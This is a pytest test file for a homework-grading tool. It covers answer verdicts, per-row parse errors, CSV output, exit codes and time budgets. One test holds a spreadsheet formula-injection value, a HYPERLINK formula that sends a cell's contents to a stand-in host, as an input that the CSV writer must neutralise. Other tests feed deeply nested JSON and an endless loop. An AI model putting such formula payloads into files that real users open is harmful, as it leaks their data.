"""Homework grading: verdicts by the grader, failing reference checks, diagnosed student code,
broken rows reported per row, a 1,000-row file, and the command."""

import csv
import io
import json
import random
import time
from types import SimpleNamespace

import pytest

from agentic_jax.apps import grade
from agentic_jax.apps.homework import parse_homework, read_homework, write_results_csv
from agentic_jax.apps.sandboxes import grading_sandbox
from agentic_jax.data import generate_curriculum

TESTS_2 = "assert float(ANSWER) == 2, 'expected 2'\n"


@pytest.fixture(scope="module")
def sandbox():
    with grading_sandbox(num_workers=1) as sb:
        yield sb


def _jsonl(records):
    return "\n".join(json.dumps(r) for r in records)


def test_verdicts_checks_and_diagnosis(sandbox):
    rows = parse_homework(_jsonl([
        {"question": "1+1?", "reference_answer": "2", "student_answer": "so \\boxed{2}"},
        {"question": "1+1?", "reference_answer": "2", "student_answer": "The answer is 3"},
        {"question": "x?", "tests": TESTS_2, "student_answer": "5"},
        {"question": "x?", "tests": TESTS_2, "student_code": "print(4 // 2)"},
        {"question": "x?", "reference_answer": "1/2", "student_code": "x = 1 / 0\nprint(x)"},
        {"question": "x?", "reference_answer": "0.5", "student_answer": "\\frac{1}{2}"},
    ]), "jsonl")
    calls = []

    def hints(graded, rows_):
        calls.append([g.row for g in graded])
        return [f"hint {g.row}" for g in graded]

    out = grade.grade_rows(rows, sandbox, hints)
    assert [r.verdict for r in out] == ["correct", "incorrect", "incorrect", "correct",
                                       "incorrect", "correct"]
    assert out[1].answer == "3" and out[1].reference_match == "False"
    assert out[2].tests == "failed"
    assert out[2].failing_check == "assert float(ANSWER) == 2, 'expected 2'"
    assert out[3].tests == "passed" and out[3].answer == "2" and out[3].code_ok == "True"
    assert out[4].code_error == "ZeroDivisionError" and "x = 1 / 0" in out[4].code_diagnosis
    assert out[4].answer == "" and not out[4].error
    assert calls == [[2, 3, 5]] and out[1].hint == "hint 2" and out[0].hint == ""


def test_broken_rows_get_a_reason_each():
    text = ("question,reference_answer,student_answer\n"
            "q1,2,2\n"
            "q2,,3\n"
            "q3,1,\n"
            "q4,1,1,extra\n")
    rows = parse_homework(text, "csv")
    assert [bool(r.error) for r in rows] == [False, True, True, True]
    assert "reference_answer or tests" in rows[1].error
    assert "student_answer or student_code" in rows[2].error
    assert "4 values for 3 columns" in rows[3].error
    bad = parse_homework('{"student_answer": 1, "answer": 1}\nnot json\n[1]\n'
                         '{"answer": "1", "student_answer": {"a": 1}}', "jsonl")
    assert not bad[0].error and "not a JSON line" in bad[1].error
    assert "expected a JSON object" in bad[2].error and "expected text" in bad[3].error
    with pytest.raises(ValueError, match="student_answer or student_code column"):
        parse_homework("question,answer\nq,1\n", "csv")
    with pytest.raises(ValueError, match=".csv or .jsonl"):
        parse_homework("", "xlsx")


def test_a_deeply_nested_jsonl_line_is_one_bad_row():
    good = '{"answer": "1", "student_answer": "1"}'
    rows = parse_homework("\n".join([good, "[" * 100_000, '{"answer": ' + "[" * 50 + "]" * 50
                                      + "}", good]), "jsonl")
    assert [bool(r.error) for r in rows] == [False, True, True, False]
    assert "nested" in rows[1].error and "nested 51 levels" in rows[2].error


def test_csv_cells_a_spreadsheet_would_run_are_text():
    answers = ['=HYPERLINK("http://x.example/?"&A1, "see")', "@SUM(A1:A9)", "+1+2", "-3+2",
               "\t=1", "\r=1", "-", "-3", "+2.5", "-1.5e3", "3", "x = -3"]
    out = io.StringIO()
    write_results_csv([{"row": i, "answer": a} for i, a in enumerate(answers)], out)
    cells = [r["answer"] for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert cells[:7] == ["'" + a for a in answers[:7]]
    assert cells[7:] == answers[7:]  # numbers stay numbers; text not starting a formula as is


def _homework_file(path, n=1000):
    """n rows from the curriculum: right, wrong and rephrased answers, some tests, some code
    and some broken rows."""
    problems = generate_curriculum(seed=0, sizes={"arithmetic": 300, "algebra": 200})
    rng = random.Random(0)
    expected = []
    with open(path, "w", newline="") as f:
        w = csv.writer(f)
        w.writerow(["question", "reference_answer", "tests", "student_answer", "student_code"])
        for i in range(n):
            p = problems[i % len(problems)]
            kind = rng.random()
            if i % 50 == 7:
                w.writerow([p.question, "", "", "", ""])
                expected.append("error")
            elif kind < 0.5:
                w.writerow([p.question, p.answer, "", f"\\boxed{{{p.answer}}}", ""])
                expected.append("correct")
            elif kind < 0.9:
                w.writerow([p.question, p.answer, "", f"The answer is {p.answer}1", ""])
                expected.append("incorrect")
            else:
                tests = p.tests if i % 100 < 5 else ""
                w.writerow([p.question, p.answer, tests, "", f"print({p.answer!r})"])
                expected.append("correct")
    return expected


def test_a_thousand_row_file(tmp_path, sandbox):
    path = tmp_path / "homework.csv"
    expected = _homework_file(path)
    rows = read_homework(str(path))
    assert len(rows) == 1000
    out = grade.grade_rows(rows, sandbox)
    assert [r.verdict for r in out] == expected
    assert grade.summary(out)["rows"] == 1000


def test_the_command_writes_csv(tmp_path, capsys):
    src = tmp_path / "hw.jsonl"
    good = _jsonl([{"question": "q", "answer": "2", "student_answer": "2"},
                   {"question": "q", "answer": "2", "student_answer": "5"}])
    src.write_text(good)
    out = tmp_path / "graded.csv"
    assert grade.main([f"--input={src}", f"--out={out}"]) == 0
    capsys.readouterr()
    # Bad lines (here one nested past the JSON depth bound) among good ones: every good row is
    # graded and written, each bad one is a line naming it, exit status 3 (partial).
    src.write_text(good + "\n" + "[" * 100_000 + "\nbad\n")
    assert grade.main([f"--input={src}", f"--out={out}"]) == grade.EXIT_STATUS["partial"] == 3
    with open(out) as f:
        rows = list(csv.DictReader(f))
    assert [r["verdict"] for r in rows] == ["correct", "incorrect", "error", "error"]
    err = capsys.readouterr().err.strip().splitlines()
    assert err[-3].startswith("row 3: not a JSON line (JSONDepthError")
    assert err[-2].startswith("row 4: not a JSON line (JSONDecodeError")
    assert err[-1].startswith("error: 2 of 4 rows could not be graded")
    assert "first: row 3: not a JSON line" in err[-1]
    assert grade.main([f"--input={src}", f"--out={tmp_path / 'no' / 'dir.csv'}"]) == 2
    assert capsys.readouterr().err.strip().splitlines()[-1].startswith("error: --out:")
    assert grade.main([f"--input={tmp_path / 'missing.csv'}", f"--out={out}"]) == 2
    assert "no such file" in capsys.readouterr().err


def test_the_command_refuses_input_with_no_readable_row(tmp_path, capsys):
    out = tmp_path / "graded.csv"
    src = tmp_path / "hw.jsonl"
    src.write_text("[" * 100_000 + "\n" + json.dumps({"question": "q", "answer": "2"}) + "\n")
    assert grade.main([f"--input={src}", f"--out={out}"]) == grade.EXIT_STATUS["unreadable"]
    err = capsys.readouterr().err.strip().splitlines()
    assert err[0].startswith("row 1: not a JSON line (JSONDepthError")
    assert err[1] == "row 2: student_answer or student_code: expected at least one"
    assert err[2].startswith(f"error: --input: {src}: no readable row (2 rows); first: row 1: ")
    assert err[2].endswith("; nothing written") and not out.exists()
    src.write_text("\n\n")
    assert grade.main([f"--input={src}", f"--out={out}"]) == 2
    assert capsys.readouterr().err.strip() == f"error: --input: {src}: no rows; nothing written"
    header_only = tmp_path / "hw.csv"
    header_only.write_text("question,answer,student_answer\n")
    assert grade.main([f"--input={header_only}", f"--out={out}"]) == 2
    assert not out.exists()


def test_outcome_tells_all_partial_and_none_apart(sandbox):
    good = {"question": "q", "answer": "2", "student_answer": "2"}
    rows = parse_homework(_jsonl([good, {"question": "q"}]), "jsonl")
    results = grade.grade_rows(rows, sandbox)
    assert grade.outcome(rows, results) == "partial"
    assert grade.row_problems(results) == [
        "row 2: reference_answer or tests: expected at least one"]
    assert grade.outcome(rows[:1], results[:1]) == "graded"
    assert grade.outcome(rows[1:]) == grade.outcome([]) == "unreadable"
    assert grade.HTTP_STATUS == {"graded": 200, "partial": 207, "unreadable": 422}


class _SlowSandbox:
    """Every snippet takes ``step_s`` (student code that loops until its timeout)."""

    def __init__(self, step_s):
        self.step_s, self.ran = step_s, 0

    def run_batch(self, codes):
        time.sleep(self.step_s * len(codes))
        self.ran += len(codes)
        return [SimpleNamespace(ok=True, stdout="2\n", error=None, message="") for _ in codes]


def test_an_upload_gets_a_time_budget(monkeypatch):
    rows = parse_homework(_jsonl([{"answer": "2", "code": "while True: pass"}] * 200), "jsonl")
    sandbox = _SlowSandbox(step_s=0.01)
    start = time.monotonic()
    out = grade.grade_rows(rows, sandbox, time_budget_s=0.2)
    assert time.monotonic() - start < 1.0 and sandbox.ran < 60
    assert out[0].verdict == "correct"
    assert out[-1].verdict == "error" and "0.2 s budget ran out" in out[-1].error
    assert grade.summary(out)["rows"] == 200
    assert all(r.verdict == "correct" for r in grade.grade_rows(rows[:20], _SlowSandbox(0.001)))
    # Answers the grader compares slowly (10 ms each here: 4 s for the upload) get the budget
    # again, on their own.
    def slow_grade(predicted, reference):
        time.sleep(0.01)
        return predicted == reference

    monkeypatch.setattr(grade, "grade_answer", slow_grade)
    answers = parse_homework(_jsonl([{"answer": "2", "student_answer": "2"}] * 400), "jsonl")
    start = time.monotonic()
    out = grade.grade_rows(answers, _SlowSandbox(0.0), time_budget_s=0.3)
    assert time.monotonic() - start < 1.5
    assert out[0].verdict == "correct" and out[-1].verdict == "error"
